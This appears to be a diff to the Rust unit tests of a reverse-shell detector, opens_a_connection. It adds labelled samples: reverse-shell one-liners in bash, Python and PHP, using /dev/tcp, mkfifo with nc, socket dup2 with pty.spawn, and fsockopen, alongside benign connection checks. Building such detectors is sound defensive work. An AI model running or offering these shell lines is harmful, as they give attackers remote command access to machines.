@@ -132,7 +132,15 @@ mod tests {
             ("exec 5<>/dev/tcp/h/1; sh <&5 >&5 2>&5", true),
             ("rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc h 1 >/tmp/f", true),
             ("import socket,os,pty;s=socket.socket();s.connect((h,1));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')", true),
+            ("import socket,os; s.connect((h, 1)); os.dup2(s.fileno(), 0); os.system('x')", true),
+            ("import socket,subprocess; s.connect((h, 1)); subprocess.call(['/bin/sh'], stdin=s)", true),
+            ("import socket,pty; s.connect((h, 1)); pty.spawn('/bin/bash')", true),
+            ("$s=fsockopen('10.0.0.1', 1); exec('sh <&3 >&3')", true),
             ("timeout 1 bash -c '</dev/tcp/db/5432' && exec app", false),
+            ("mkfifo /tmp/f; nc -z db 5432", false),
+            ("import subprocess; subprocess.call(['/bin/sh', 'start'])", false),
+            ("import socket,subprocess; s.connect(('db', 1)); subprocess.call(['app'])", false),
+            ("$s=fsockopen('db', 5432);", false),
             ("import socket; s.connect(('db', 5432))", false),
         ] {
             assert_eq!(opens_a_connection(script), expected, "{script}");
